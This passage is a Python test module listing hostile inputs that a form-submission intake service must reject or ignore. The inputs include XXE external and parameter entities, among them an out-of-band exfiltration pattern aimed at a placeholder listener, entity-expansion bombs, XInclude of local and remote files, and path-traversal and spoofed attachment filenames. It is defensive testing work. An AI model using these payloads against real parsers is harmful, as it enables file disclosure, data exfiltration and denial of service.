"""The hostile-input corpus: one table of cases for every media type the intake accepts.

Each case builds its body from the examples and names the answer it must get: the status, and a
code that must appear as the problem's `code` or among its `invalid_params`. A few hostile-looking
documents are valid (a UTF-8 BOM, a schemaLocation hint that must be ignored) and must be accepted
without anything being fetched. `{fifo}` stands for a named pipe that nobody may open, `{http}` for
a local TCP listener that nobody may connect to, `{permissive_xsd}` for an XSD that accepts
anything.
"""

from __future__ import annotations

import hashlib
import json
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import orjson
from lxml import etree

from contracts.forms import FORMS
from intake import fitconnect
from tests.conftest import EXAMPLES, break_postcode

DOG_FORM = FORMS["hundeanmeldung"]
WOHNGELD_FORM = FORMS["wohngeld-mietzuschuss"]
DOG = (EXAMPLES / "hundeanmeldung.xml").read_bytes()
DOG_JSON = (EXAMPLES / "hundeanmeldung.json").read_bytes()
WOHNGELD = (EXAMPLES / "wohngeld.xml").read_bytes()
XML = "application/xml"
JSON = "application/json"
MiB = 1024 * 1024
DOG_ROOT = b"<hundesteuer:hundesteuer.anmeldung.0101"
NAME = b"<basis:familienname>Richter</basis:familienname>"
BOUNDARY = "hostile-boundary"
MULTIPART = f"multipart/form-data; boundary={BOUNDARY}"


@dataclass(frozen=True)
class Env:
    fifo: Path
    http: str
    permissive_xsd: Path


Body = tuple[bytes, str]


@dataclass(frozen=True)
class Hostile:
    id: str
    media: str
    build: Callable[[Env], Body]
    status: int
    code: str
    big: bool = False


def fill(template: str, env: Env) -> str:
    return template.format(fifo=env.fifo, http=env.http, permissive_xsd=env.permissive_xsd)


# --------------------------------------------------------------------------- XML builders


def xml(body: bytes | Callable[[], bytes]) -> Callable[[Env], Body]:
    """A fixed document, or a function making one (large ones are made only when used)."""
    return lambda _env: (body() if callable(body) else body, XML)


def doctype(
    template: str, entity_ref: bytes = b"", in_attribute: bool = False
) -> Callable[[Env], Body]:
    def build(env: Env) -> Body:
        head, sep, rest = DOG.partition(DOG_ROOT)
        document = head + fill(template, env).encode() + b"\n" + sep + rest
        if entity_ref and in_attribute:
            document = document.replace(b'produkt="', b'produkt="' + entity_ref, 1)
        elif entity_ref:
            document = document.replace(b">Richter<", b">Richter" + entity_ref + b"<", 1)
        return document, XML

    return build


def root_attributes(template: str, document: bytes = DOG) -> Callable[[Env], Body]:
    def build(env: Env) -> Body:
        extra = fill(template, env).encode()
        return document.replace(DOG_ROOT + b" ", DOG_ROOT + b" " + extra + b" ", 1), XML

    return build


def before_root(template: str) -> Callable[[Env], Body]:
    return lambda env: (
        DOG.replace(DOG_ROOT, fill(template, env).encode() + b"\n" + DOG_ROOT, 1),
        XML,
    )


def in_name(content: bytes | Callable[[], bytes], document: bytes = DOG) -> Callable[[Env], Body]:
    """The owner's family name replaced by `content` (markup allowed)."""

    def make() -> bytes:
        value = content() if callable(content) else content
        return document.replace(b">Richter<", b">" + value + b"<", 1)

    return xml(make)


def xinclude(href: str) -> Callable[[Env], Body]:
    def build(env: Env) -> Body:
        include = (
            '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="'
            + fill(href, env)
            + '" parse="text"/>'
        ).encode()
        return DOG.replace(b">Richter<", b">" + include + b"<", 1), XML

    return build


def reencoded(text_encoding: str, declared: str | None, bom: bool = False) -> Callable[[Env], Body]:
    def build(_env: Env) -> Body:
        text = DOG.decode()
        if declared is not None:
            text = text.replace('encoding="UTF-8"', f'encoding="{declared}"')
        data = text.encode(text_encoding)
        if bom and text_encoding == "utf-16-le":
            data = b"\xff\xfe" + data
        return data, XML

    return build


def billion_laughs() -> str:
    entities = ['<!ENTITY l0 "ha">'] + [
        f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10)
    ]
    return "<!DOCTYPE r [" + "".join(entities) + "]>"


def quadratic_blowup() -> str:
    return '<!DOCTYPE r [<!ENTITY a "' + "x" * 50_000 + '">]>'


def nested(depth: int) -> bytes:
    return DOG.replace(NAME, NAME + b"<a>" * depth + b"</a>" * depth, 1)


def wrapped_in_foreign_root() -> bytes:
    declaration, _, rest = DOG.partition(b"?>")
    return declaration + b'?><wrapper xmlns="urn:other">' + rest + b"</wrapper>"


def wohngeld_with(extra: bytes) -> bytes:
    return WOHNGELD.replace(b"</basis:familienname>", b"</basis:familienname>" + extra, 1)


XML_CASES = [
    Hostile(
        "xml-external-entity-http",
        "xml",
        doctype('<!DOCTYPE r [<!ENTITY e SYSTEM "{http}/e">]>', b"&e;"),
        400,
        "xml.doctype_forbidden",
    ),
    Hostile(
        "xml-parameter-entity-http",
        "xml",
        doctype('<!DOCTYPE r [<!ENTITY % p SYSTEM "{http}/p.dtd"> %p;]>'),
        400,
        "xml.doctype_forbidden",
    ),
    Hostile(
        "xml-external-dtd-public-id",
        "xml",
        doctype('<!DOCTYPE r PUBLIC "-//EVIL//DTD//EN" "{http}/x.dtd">'),
        400,
        "xml.doctype_forbidden",
    ),
    Hostile(
        "xml-external-entity-file-in-attribute",
        "xml",
        doctype('<!DOCTYPE r [<!ENTITY e SYSTEM "file://{fifo}">]>', b"&e;", True),
        400,
        "malformed",
    ),
    Hostile(
        "xml-parameter-entity-file-nested",
        "xml",
        doctype(
            '<!DOCTYPE r [<!ENTITY % a SYSTEM "file://{fifo}">'
            "<!ENTITY % b \"<!ENTITY &#37; c SYSTEM '{http}/?%a;'>\"> %b; %c;]>"
        ),
        400,
        "malformed",
    ),
    Hostile(
        "xml-billion-laughs-in-attribute",
        "xml",
        doctype(billion_laughs(), b"&l9;", True),
        400,
        "malformed",
    ),
    Hostile(
        "xml-quadratic-blowup",
        "xml",
        doctype(quadratic_blowup(), b"&a;" * 2000),
        400,
        "malformed",
    ),
    Hostile(
        "xml-quadratic-character-references",
        "xml",
        xml(lambda: wohngeld_with(b"&#65;" * 3_000_000)),
        400,
        "xml.markup_limit",
        big=True,
    ),
    Hostile(
        "xml-quadratic-cdata-pieces",
        "xml",
        in_name(b"<![CDATA[A]]>" * 50_000),
        400,
        "xml.markup_limit",
    ),
    Hostile(
        "xml-many-comments",
        "xml",
        xml(lambda: wohngeld_with(b"<!---->" * 2_500_000)),
        400,
        "xml.markup_limit",
        big=True,
    ),
    Hostile(
        "xml-many-elements",
        "xml",
        xml(lambda: wohngeld_with(b"<x/>" * 4_500_000)),
        400,
        "xml.markup_limit",
        big=True,
    ),
    Hostile(
        "xml-many-attributes",
        "xml",
        xml(
            lambda: WOHNGELD.replace(
                b"<basis:familienname>",
                b"<basis:familienname "
                + b" ".join(b"a%d='1'" % i for i in range(1_400_000))
                + b">",
                1,
            )
        ),
        400,
        "xml.markup_limit",
        big=True,
    ),
    Hostile("xml-deep-nesting", "xml", xml(lambda: nested(100_000)), 400, "xml.markup_limit"),
    Hostile("xml-nesting-below-libxml2-limit", "xml", xml(nested(250)), 422, "xml.schema"),
    Hostile(
        "xml-huge-text-node",
        "xml",
        xml(lambda: wohngeld_with(b"A" * (15 * MiB))),
        422,
        "xml.schema",
        big=True,
    ),
    Hostile(
        "xml-text-node-over-the-form-cap",
        "xml",
        in_name(lambda: b"A" * (15 * MiB)),
        413,
        "too_large",
        big=True,
    ),
    Hostile(
        "xml-long-text-within-the-cap",
        "xml",
        in_name(lambda: b"A" * (1 * MiB + 512 * 1024)),
        422,
        "xml.schema",
        big=True,
    ),
    Hostile("xml-xinclude-file", "xml", xinclude("file://{fifo}"), 422, "xml.schema"),
    Hostile("xml-xinclude-http", "xml", xinclude("{http}/x"), 422, "xml.schema"),
    Hostile(
        "xml-schema-location-remote-is-ignored",
        "xml",
        root_attributes(
            'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
            'xsi:schemaLocation="urn:eantrag:xoev:hundesteuer:1.0 {http}/e.xsd"'
        ),
        202,
        "received",
    ),
    Hostile(
        "xml-schema-location-local-is-ignored",
        "xml",
        root_attributes(
            'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
            'xsi:schemaLocation="urn:eantrag:xoev:hundesteuer:1.0 file://{fifo}"'
        ),
        202,
        "received",
    ),
    Hostile(
        "xml-no-namespace-schema-location-is-ignored",
        "xml",
        root_attributes(
            'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
            'xsi:noNamespaceSchemaLocation="{http}/e.xsd"'
        ),
        202,
        "received",
    ),
    Hostile(
        "xml-permissive-schema-location-does-not-validate",
        "xml",
        root_attributes(
            'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
            'xsi:schemaLocation="urn:eantrag:xoev:hundesteuer:1.0 '
            'file://{permissive_xsd}"',
            break_postcode(DOG),
        ),
        422,
        "xml.schema",
    ),
    Hostile(
        "xml-stylesheet-processing-instruction-is-ignored",
        "xml",
        before_root('<?xml-stylesheet type="text/xsl" href="{http}/x.xsl"?>'),
        202,
        "received",
    ),
    Hostile("xml-utf8-bom-is-fine", "xml", xml(b"\xef\xbb\xbf" + DOG), 202, "received"),
    Hostile("xml-utf16-with-bom", "xml", reencoded("utf-16", "UTF-16"), 415, "xml.encoding"),
    Hostile("xml-utf16-without-bom", "xml", reencoded("utf-16-le", "UTF-16"), 415, "xml.encoding"),
    Hostile("xml-utf16-bom-declaring-utf8", "xml", reencoded("utf-16", None), 415, "xml.encoding"),
    Hostile("xml-utf32", "xml", reencoded("utf-32", "UTF-32"), 400, "malformed"),
    Hostile(
        "xml-declares-latin1-but-is-utf8",
        "xml",
        reencoded("utf-8", "ISO-8859-1"),
        415,
        "xml.encoding",
    ),
    Hostile(
        "xml-latin1-truthfully-declared",
        "xml",
        reencoded("latin-1", "ISO-8859-1"),
        415,
        "xml.encoding",
    ),
    Hostile("xml-declares-ascii", "xml", reencoded("utf-8", "US-ASCII"), 400, "malformed"),
    Hostile(
        "xml-declares-unknown-encoding", "xml", reencoded("utf-8", "x-evil"), 400, "xml.malformed"
    ),
    Hostile(
        "xml-declares-utf16-but-is-utf8", "xml", reencoded("utf-8", "UTF-16"), 400, "malformed"
    ),
    Hostile(
        "xml-charset-parameter-latin1",
        "xml",
        lambda _env: (DOG, "application/xml; charset=iso-8859-1"),
        415,
        "media_type.charset",
    ),
    Hostile("xml-invalid-utf8", "xml", in_name(b"Ri\xffchter"), 400, "xml.malformed"),
    Hostile("xml-overlong-utf8-slash", "xml", in_name(b"Ri\xc0\xafchter"), 400, "xml.malformed"),
    Hostile(
        "xml-utf8-encoded-surrogate", "xml", in_name(b"Ri\xed\xa0\x80chter"), 400, "xml.malformed"
    ),
    Hostile("xml-nul-byte", "xml", in_name(b"Ri\x00chter"), 400, "xml.malformed"),
    Hostile(
        "xml-control-character-reference", "xml", in_name(b"Ri&#1;chter"), 400, "xml.malformed"
    ),
    Hostile(
        "xml-xml11-control-character-reference",
        "xml",
        xml(
            DOG.replace(b'version="1.0" encoding', b'version="1.1" encoding', 1).replace(
                b">Richter<", b">Ri&#1;chter<", 1
            )
        ),
        400,
        "xml.malformed",
    ),
    Hostile("xml-undefined-entity", "xml", in_name(b"Ri&evil;chter"), 400, "xml.malformed"),
    Hostile(
        "xml-duplicate-attribute", "xml", root_attributes('version="2.0"'), 400, "xml.malformed"
    ),
    Hostile(
        "xml-right-local-names-wrong-namespace",
        "xml",
        xml(DOG.replace(b"urn:eantrag:xoev:hundesteuer:1.0", b"urn:evil:hundesteuer:1.0")),
        422,
        "unknown_form",
    ),
    Hostile(
        "xml-children-in-a-foreign-namespace",
        "xml",
        xml(
            DOG.replace(
                b'xmlns:basis="urn:eantrag:xoev:basis:1.0"', b'xmlns:basis="urn:evil:basis:1.0"'
            )
        ),
        422,
        "xml.schema",
    ),
    Hostile(
        "xml-form-namespace-on-a-non-root",
        "xml",
        xml(wrapped_in_foreign_root()),
        422,
        "unknown_form",
    ),
    Hostile(
        "xml-form-namespace-wrong-root-name",
        "xml",
        xml(
            DOG.replace(
                b"hundesteuer:hundesteuer.anmeldung.0101", b"hundesteuer:hundesteuer.abmeldung.0102"
            )
        ),
        422,
        "unknown_form",
    ),
    Hostile(
        "xml-prefix-rebound-to-the-form-namespace",
        "xml",
        xml(
            DOG.replace(
                b"<basis:familienname>",
                b'<basis:familienname xmlns:basis="urn:eantrag:xoev:hundesteuer:1.0">',
                1,
            )
        ),
        422,
        "xml.schema",
    ),
    Hostile(
        "xml-undeclared-root-prefix",
        "xml",
        xml(DOG.replace(b'xmlns:hundesteuer="urn:eantrag:xoev:hundesteuer:1.0" ', b"")),
        400,
        "xml.namespace",
    ),
    Hostile(
        "xml-undeclared-child-prefix",
        "xml",
        xml(DOG.replace(b'xmlns:basis="urn:eantrag:xoev:basis:1.0" ', b"")),
        400,
        "xml.malformed",
    ),
    Hostile("xml-trailing-garbage", "xml", xml(DOG + b"garbage"), 400, "xml.malformed"),
    Hostile("xml-second-root", "xml", xml(DOG + DOG.partition(b"?>")[2]), 400, "malformed"),
    Hostile("xml-truncated", "xml", xml(DOG[: len(DOG) // 2]), 400, "xml.malformed"),
    Hostile(
        "xml-prolog-too-long",
        "xml",
        xml(b"<!--" + b"x" * 70_000 + b"-->" + DOG.partition(b"?>")[2]),
        400,
        "xml.prolog_too_long",
    ),
    Hostile("xml-json-sent-as-xml", "xml", xml(DOG_JSON), 400, "xml.malformed"),
]

# --------------------------------------------------------------------------- JSON builders


def json_body(body: bytes, content_type: str = JSON) -> Callable[[Env], Body]:
    return lambda _env: (body, content_type)


def mutated(change: Callable[[dict[str, Any]], None]) -> Callable[[Env], Body]:
    document = orjson.loads(DOG_JSON)
    change(document)
    return json_body(orjson.dumps(document))


def raw_replace(old: bytes, new: bytes) -> Callable[[Env], Body]:
    assert old in DOG_JSON, old
    return json_body(DOG_JSON.replace(old, new, 1))


def setter(*path_and_value: Any) -> Callable[[dict[str, Any]], None]:
    *path, value = path_and_value

    def change(document: dict[str, Any]) -> None:
        target = document
        for step in path[:-1]:
            target = target[step]
        target[path[-1]] = value

    return change


def deleter(*path: str) -> Callable[[dict[str, Any]], None]:
    def change(document: dict[str, Any]) -> None:
        target = document
        for step in path[:-1]:
            target = target[step]
        del target[path[-1]]

    return change


DOG_NAME = b'"familienname": "Richter"'
DOG_VERSION = b'"version": "1.0"'


def too_many_values() -> bytes:
    return b'{"$schema": "urn:eantrag:xoev:wohngeld:1.0", "x": [' + b"0," * (9 * MiB) + b"0]}"


JSON_CASES = [
    Hostile(
        "json-deep-nesting",
        "json",
        json_body(
            b'{"$schema": "urn:eantrag:xoev:hundesteuer:1.0", "x": '
            + b"[" * 100_000
            + b"]" * 100_000
            + b"}"
        ),
        400,
        "json.malformed",
    ),
    Hostile(
        "json-nesting-just-below-orjsons-limit",
        "json",
        raw_replace(DOG_VERSION, DOG_VERSION + b', "evil": ' + b"[" * 1000 + b"]" * 1000),
        400,
        "json.too_deep",
    ),
    Hostile(
        "json-nesting-deeper-than-pydantic-allows",
        "json",
        raw_replace(DOG_VERSION, DOG_VERSION + b', "evil": ' + b"[" * 500 + b"]" * 500),
        422,
        "invalid",
    ),
    Hostile(
        "json-huge-exponent",
        "json",
        raw_replace(DOG_VERSION, b'"version": 1e999'),
        400,
        "json.malformed",
    ),
    Hostile(
        "json-huge-integer-literal",
        "json",
        raw_replace(DOG_VERSION, b'"version": 1' + b"0" * 100_000),
        400,
        "json.malformed",
    ),
    Hostile(
        "json-integer-field-too-large",
        "json",
        raw_replace(b'"anzahlWeitereHunde": 0', b'"anzahlWeitereHunde": 1' + b"0" * 30),
        422,
        "invalid",
    ),
    Hostile("json-nan", "json", raw_replace(DOG_VERSION, b'"version": NaN'), 400, "json.malformed"),
    Hostile(
        "json-infinity",
        "json",
        raw_replace(DOG_VERSION, b'"version": -Infinity'),
        400,
        "json.malformed",
    ),
    Hostile(
        "json-duplicate-key",
        "json",
        raw_replace(DOG_VERSION, DOG_VERSION + b", " + DOG_VERSION),
        400,
        "json.duplicate_key",
    ),
    Hostile(
        "json-duplicate-schema-naming-another-form",
        "json",
        raw_replace(DOG_VERSION, DOG_VERSION + b', "$schema": "urn:eantrag:xoev:wohngeld:1.0"'),
        400,
        "json.duplicate_key",
    ),
    Hostile(
        "json-duplicate-nested-key",
        "json",
        raw_replace(DOG_NAME, DOG_NAME + b', "familienname": "Mallory"'),
        400,
        "json.duplicate_key",
    ),
    Hostile(
        "json-duplicate-key-differently-escaped",
        "json",
        raw_replace(DOG_NAME, DOG_NAME + b', "familien\\u006eame": "Mallory"'),
        400,
        "json.duplicate_key",
    ),
    Hostile(
        "json-string-instead-of-number",
        "json",
        mutated(setter("anzahlWeitereHunde", "1")),
        422,
        "json.int_type",
    ),
    Hostile("json-number-instead-of-string", "json", mutated(setter("version", 1)), 422, "invalid"),
    Hostile("json-array-instead-of-object", "json", mutated(setter("halter", [])), 422, "invalid"),
    Hostile(
        "json-null-for-a-required-field", "json", mutated(setter("halter", None)), 422, "invalid"
    ),
    Hostile(
        "json-boolean-instead-of-string",
        "json",
        mutated(setter("halter", "familienname", True)),
        422,
        "json.string_type",
    ),
    Hostile("json-required-field-missing", "json", mutated(deleter("halter")), 422, "json.missing"),
    Hostile(
        "json-date-as-number",
        "json",
        mutated(setter("halter", "geburtsdatum", 19791123)),
        422,
        "invalid",
    ),
    Hostile(
        "json-date-not-iso",
        "json",
        mutated(setter("halter", "geburtsdatum", "23.11.1979")),
        422,
        "invalid",
    ),
    Hostile("json-extra-field", "json", mutated(setter("evil", 1)), 422, "json.extra_forbidden"),
    Hostile(
        "json-extra-nested-field",
        "json",
        mutated(setter("halter", "evil", "x")),
        422,
        "json.extra_forbidden",
    ),
    Hostile(
        "json-proto-key",
        "json",
        mutated(setter("__proto__", {"admin": True})),
        422,
        "json.extra_forbidden",
    ),
    Hostile(
        "json-nul-in-a-string",
        "json",
        raw_replace(DOG_NAME, b'"familienname": "Ri\\u0000chter"'),
        422,
        "json.character",
    ),
    Hostile(
        "json-control-character-in-a-string",
        "json",
        raw_replace(DOG_NAME, b'"familienname": "Ri\\u001bchter"'),
        422,
        "json.character",
    ),
    Hostile(
        "json-noncharacter-in-a-string",
        "json",
        raw_replace(DOG_NAME, '"familienname": "Ri\uffffchter"'.encode()),
        422,
        "json.character",
    ),
    Hostile("json-nul-in-a-key", "json", mutated(setter("ev\x00il", 1)), 422, "json.character"),
    Hostile(
        "json-lone-surrogate",
        "json",
        raw_replace(DOG_NAME, b'"familienname": "Ri\\ud800chter"'),
        400,
        "json.malformed",
    ),
    Hostile(
        "json-invalid-utf8",
        "json",
        raw_replace(DOG_NAME, b'"familienname": "Ri\xffchter"'),
        400,
        "json.malformed",
    ),
    # Alike for XML and JSON: a UTF-8 byte order mark is ignored (RFC 8259 §8.1 allows it).
    Hostile(
        "json-utf8-bom-is-fine", "json", json_body(b"\xef\xbb\xbf" + DOG_JSON), 202, "received"
    ),
    Hostile(
        "json-utf16", "json", json_body(DOG_JSON.decode().encode("utf-16")), 400, "json.malformed"
    ),
    Hostile(
        "json-charset-parameter-utf16",
        "json",
        json_body(DOG_JSON, "application/json; charset=utf-16"),
        415,
        "media_type.charset",
    ),
    Hostile("json-trailing-garbage", "json", json_body(DOG_JSON + b"x"), 400, "json.malformed"),
    Hostile("json-two-documents", "json", json_body(DOG_JSON + DOG_JSON), 400, "json.malformed"),
    Hostile("json-top-level-string", "json", json_body(b'"hello"'), 400, "json.not_an_object"),
    Hostile(
        "json-schema-not-a-string",
        "json",
        mutated(setter("$schema", ["urn:x"])),
        422,
        "unknown_form",
    ),
    Hostile(
        "json-other-forms-schema",
        "json",
        mutated(setter("$schema", WOHNGELD_FORM.namespace)),
        422,
        "invalid",
    ),
    Hostile(
        "json-too-many-values",
        "json",
        lambda _env: (too_many_values(), JSON),
        422,
        "json.too_many_values",
        big=True,
    ),
    Hostile(
        "json-over-every-form-cap",
        "json",
        lambda _env: (
            DOG_JSON.replace(DOG_NAME, b'"familienname": "' + b"R" * (25 * MiB) + b'"', 1),
            JSON,
        ),
        413,
        "too_large",
        big=True,
    ),
    Hostile("json-xml-sent-as-json", "json", json_body(DOG), 400, "json.malformed"),
]

# --------------------------------------------------------------------------- multipart builders


@dataclass
class Parts:
    """A Wohngeld submission with its attachments, to spoil."""

    metadata: dict[str, Any]
    data: bytes
    data_type: str
    attachments: list[fitconnect.OutgoingAttachment]

    @classmethod
    def wohngeld(cls) -> Parts:
        from bootstrap.demo import example_attachments

        attachments = example_attachments(WOHNGELD_FORM, WOHNGELD)
        metadata = fitconnect.metadata_for(WOHNGELD_FORM, WOHNGELD, XML, attachments)
        return cls(json.loads(json.dumps(metadata)), WOHNGELD, XML, attachments)

    @classmethod
    def dog(cls, data: bytes = DOG, data_type: str = XML) -> Parts:
        return cls(fitconnect.metadata_for(DOG_FORM, data, data_type, []), data, data_type, [])

    @property
    def announced(self) -> list[dict[str, Any]]:
        return self.metadata["contentStructure"]["attachments"]

    def parts(self) -> list[tuple[str, str, bytes, str | None]]:
        return [
            ("metadata", JSON, orjson.dumps(self.metadata), None),
            ("data", self.data_type, self.data, None),
            *[(a.attachment_id, a.media_type, a.content, a.filename) for a in self.attachments],
        ]

    def body(self) -> bytes:
        return fitconnect.multipart_body(self.parts(), BOUNDARY)[0]


def multipart(
    change: Callable[[Parts], bytes | None],
    parts: Callable[[], Parts] = Parts.wohngeld,
    content_type: str = MULTIPART,
) -> Callable[[Env], Body]:
    def build(_env: Env) -> Body:
        submission = parts()
        body = change(submission)
        return (submission.body() if body is None else body), content_type

    return build


def raw(change: Callable[[bytes], bytes], content_type: str = MULTIPART) -> Callable[[Env], Body]:
    return multipart(lambda parts: change(parts.body()), content_type=content_type)


def with_filename(filename: str) -> Callable[[Parts], None]:
    def change(parts: Parts) -> None:
        parts.announced[0]["filename"] = filename

    return change


def hostile_data(data: bytes, data_type: str = XML) -> Callable[[Env], Body]:
    """A consistent submission (hashes match) whose data part is hostile."""
    return multipart(lambda _parts: None, lambda: Parts.dog(data, data_type))


def swap_attachment_hashes(parts: Parts) -> None:
    first, second = parts.announced[0]["hash"], parts.announced[1]["hash"]
    parts.announced[0]["hash"], parts.announced[1]["hash"] = second, first


def announce_twice(parts: Parts) -> None:
    parts.announced.append(dict(parts.announced[0]))


def unannounce_referenced(parts: Parts) -> bytes:
    """Drop one attachment from metadata and body, while the form still refers to it."""
    gone = parts.announced.pop()
    parts.attachments = [a for a in parts.attachments if a.attachment_id != gone["attachmentId"]]
    return parts.body()


def set_data_hash(value: dict[str, Any] | None) -> Callable[[Parts], None]:
    def change(parts: Parts) -> None:
        data = parts.metadata["contentStructure"]["data"]
        if value is None:
            del data["hash"]
        else:
            data["hash"] = value

    return change


def metadata_bytes(metadata: bytes) -> Callable[[Parts], bytes]:
    def change(parts: Parts) -> bytes:
        items = parts.parts()
        items[0] = ("metadata", JSON, metadata, None)
        return fitconnect.multipart_body(items, BOUNDARY)[0]

    return change


def duplicated_metadata_key(parts: Parts) -> bytes:
    encoded = orjson.dumps(parts.metadata)
    return metadata_bytes(encoded[:-1] + b', "publicServiceType": {"identifier": "x"}}')(parts)


def part_header(extra: bytes) -> Callable[[bytes], bytes]:
    return lambda body: body.replace(b'name="data"\r\n', b'name="data"\r\n' + extra, 1)


def part_header_filename(filename: bytes) -> Callable[[bytes], bytes]:
    """The first attachment part's own filename parameter (the metadata names none)."""

    def change(body: bytes) -> bytes:
        head, sep, rest = body.partition(b'filename="')
        assert sep
        return head + sep + filename + b'"' + rest.partition(b'"')[2]

    return change


def data_type(media_type: str) -> Callable[[Parts], None]:
    def change(parts: Parts) -> None:
        parts.data_type = media_type

    return change


def oversized_data(parts: Parts) -> None:
    padding = (b" " * (5 * MiB) + b"<x/>") * 5
    parts.data = WOHNGELD.replace(b"</basis:familienname>", b"</basis:familienname>" + padding, 1)
    parts.metadata["contentStructure"]["data"]["hash"]["content"] = hashlib.sha512(
        parts.data
    ).hexdigest()


def many_parts(parts: Parts) -> bytes:
    items = parts.parts() + [(f"extra{i}", "text/plain", b"x", None) for i in range(200)]
    return fitconnect.multipart_body(items, BOUNDARY)[0]


def long_boundary() -> Callable[[Env], Body]:
    boundary = "b" * 5000
    return lambda _env: (
        fitconnect.multipart_body(Parts.wohngeld().parts(), boundary)[0],
        f"multipart/form-data; boundary={boundary}",
    )


MULTIPART_CASES = [
    Hostile(
        "multipart-no-boundary",
        "multipart",
        raw(lambda body: body, "multipart/form-data"),
        400,
        "multipart.no_boundary",
    ),
    Hostile(
        "multipart-wrong-boundary",
        "multipart",
        raw(lambda body: body, "multipart/form-data; boundary=another"),
        400,
        "multipart.malformed",
    ),
    Hostile(
        "multipart-boundary-too-long", "multipart", long_boundary(), 400, "multipart.malformed"
    ),
    Hostile(
        "multipart-broken-closing-boundary",
        "multipart",
        raw(lambda body: body.replace(f"--{BOUNDARY}--".encode(), b"--hostile-bound")),
        400,
        "multipart.truncated",
    ),
    Hostile(
        "multipart-no-closing-boundary",
        "multipart",
        raw(lambda body: body.rsplit(f"--{BOUNDARY}--".encode(), 1)[0]),
        400,
        "multipart.truncated",
    ),
    Hostile(
        "multipart-empty-body", "multipart", raw(lambda _body: b""), 400, "multipart.truncated"
    ),
    Hostile(
        "multipart-garbage-before-the-first-boundary",
        "multipart",
        raw(lambda body: b"garbage\r\n" + body),
        400,
        "multipart.malformed",
    ),
    Hostile(
        "multipart-bare-lf-line-endings",
        "multipart",
        raw(lambda body: body.replace(b"\r\n", b"\n")),
        400,
        "multipart.malformed",
    ),
    Hostile(
        "multipart-huge-part-header",
        "multipart",
        raw(part_header(b"X-Junk: " + b"a" * 100_000 + b"\r\n")),
        400,
        "multipart.malformed",
    ),
    Hostile(
        "multipart-many-part-headers",
        "multipart",
        raw(part_header(b"X-Junk: a\r\n" * 5000)),
        400,
        "multipart.malformed",
    ),
    Hostile(
        "multipart-part-without-name",
        "multipart",
        raw(lambda body: body.replace(b'; name="data"', b"", 1)),
        400,
        "multipart.no_name",
    ),
    Hostile(
        "multipart-part-not-form-data",
        "multipart",
        raw(lambda body: body.replace(b'form-data; name="data"', b'attachment; name="data"')),
        400,
        "multipart.no_name",
    ),
    Hostile(
        "multipart-metadata-under-another-case",
        "multipart",
        raw(lambda body: body.replace(b'name="metadata"', b'name="Metadata"', 1)),
        400,
        "multipart.missing_part",
    ),
    Hostile(
        "multipart-too-many-parts",
        "multipart",
        multipart(many_parts),
        400,
        "multipart.too_many_parts",
    ),
    Hostile(
        "multipart-mixed-instead-of-form-data",
        "multipart",
        raw(lambda body: body, f"multipart/mixed; boundary={BOUNDARY}"),
        415,
        "unsupported_media_type",
    ),
    Hostile(
        "multipart-attachment-hashes-swapped",
        "multipart",
        multipart(swap_attachment_hashes),
        400,
        "fitconnect.hash_mismatch",
    ),
    Hostile(
        "multipart-data-hash-missing",
        "multipart",
        multipart(set_data_hash(None)),
        422,
        "fitconnect.metadata",
    ),
    Hostile(
        "multipart-data-hash-sha256",
        "multipart",
        multipart(
            set_data_hash({"type": "sha256", "content": hashlib.sha256(WOHNGELD).hexdigest()})
        ),
        422,
        "fitconnect.metadata",
    ),
    Hostile(
        "multipart-attachment-announced-twice",
        "multipart",
        multipart(announce_twice),
        400,
        "multipart.duplicate_attachment",
    ),
    Hostile(
        "multipart-referenced-attachment-not-announced",
        "multipart",
        multipart(unannounce_referenced),
        422,
        "fitconnect.attachment_unknown",
    ),
    Hostile(
        "multipart-metadata-not-json",
        "multipart",
        multipart(metadata_bytes(b"{nope")),
        400,
        "json.malformed",
    ),
    Hostile(
        "multipart-metadata-duplicate-key",
        "multipart",
        multipart(duplicated_metadata_key),
        400,
        "json.duplicate_key",
    ),
    Hostile(
        "multipart-metadata-nul-character",
        "multipart",
        multipart(
            metadata_bytes(
                b'{"contentStructure": {"data": {}, "attachments": []}, '
                b'"publicServiceType": {"name": "\\u0000"}}'
            )
        ),
        422,
        "json.character",
    ),
    Hostile(
        "multipart-metadata-over-its-cap",
        "multipart",
        multipart(metadata_bytes(b'{"x": "' + b"a" * (2 * MiB) + b'"}')),
        413,
        "too_large",
        big=True,
    ),
    Hostile(
        "multipart-data-over-the-form-cap",
        "multipart",
        multipart(oversized_data),
        413,
        "too_large",
        big=True,
    ),
    Hostile(
        "multipart-data-type-not-announced",
        "multipart",
        multipart(data_type("text/xml")),
        400,
        "multipart.media_type_mismatch",
    ),
    Hostile(
        "multipart-data-charset-utf16",
        "multipart",
        raw(
            lambda body: body.replace(
                b"Content-Type: application/xml\r\n",
                b"Content-Type: application/xml; charset=utf-16\r\n",
                1,
            )
        ),
        415,
        "media_type.charset",
    ),
    Hostile(
        "multipart-data-neither-xml-nor-json",
        "multipart",
        hostile_data(b"hello", "text/plain"),
        422,
        "fitconnect.metadata",
    ),
    Hostile(
        "multipart-data-billion-laughs",
        "multipart",
        hostile_data(doctype(billion_laughs(), b"&l9;")(Env(Path(), "", Path()))[0]),
        400,
        "xml.doctype_forbidden",
    ),
    Hostile(
        "multipart-data-invalid-document",
        "multipart",
        hostile_data(break_postcode(DOG)),
        422,
        "xml.schema",
    ),
    Hostile(
        "multipart-data-json-duplicate-key",
        "multipart",
        hostile_data(DOG_JSON.replace(DOG_VERSION, DOG_VERSION + b", " + DOG_VERSION, 1), JSON),
        400,
        "json.duplicate_key",
    ),
    Hostile(
        "multipart-part-filename-traversal",
        "multipart",
        raw(lambda body: body.replace(b'name="data"', b'name="data"; filename="../../x"', 1)),
        400,
        "multipart.bad_filename",
    ),
    *[
        Hostile(
            f"multipart-filename-{label}",
            "multipart",
            multipart(with_filename(name)),
            400,
            "multipart.bad_filename",
        )
        for label, name in [
            ("dot-dot", ".."),
            ("absolute", "/etc/passwd"),
            ("drive-relative", "C:evil.pdf"),
            ("unc", "\\\\host\\share\\x.pdf"),
            ("ntfs-stream", "Mietvertrag.pdf:hidden"),
            ("right-to-left-override", "Mietvertrag\u202efdp.exe"),
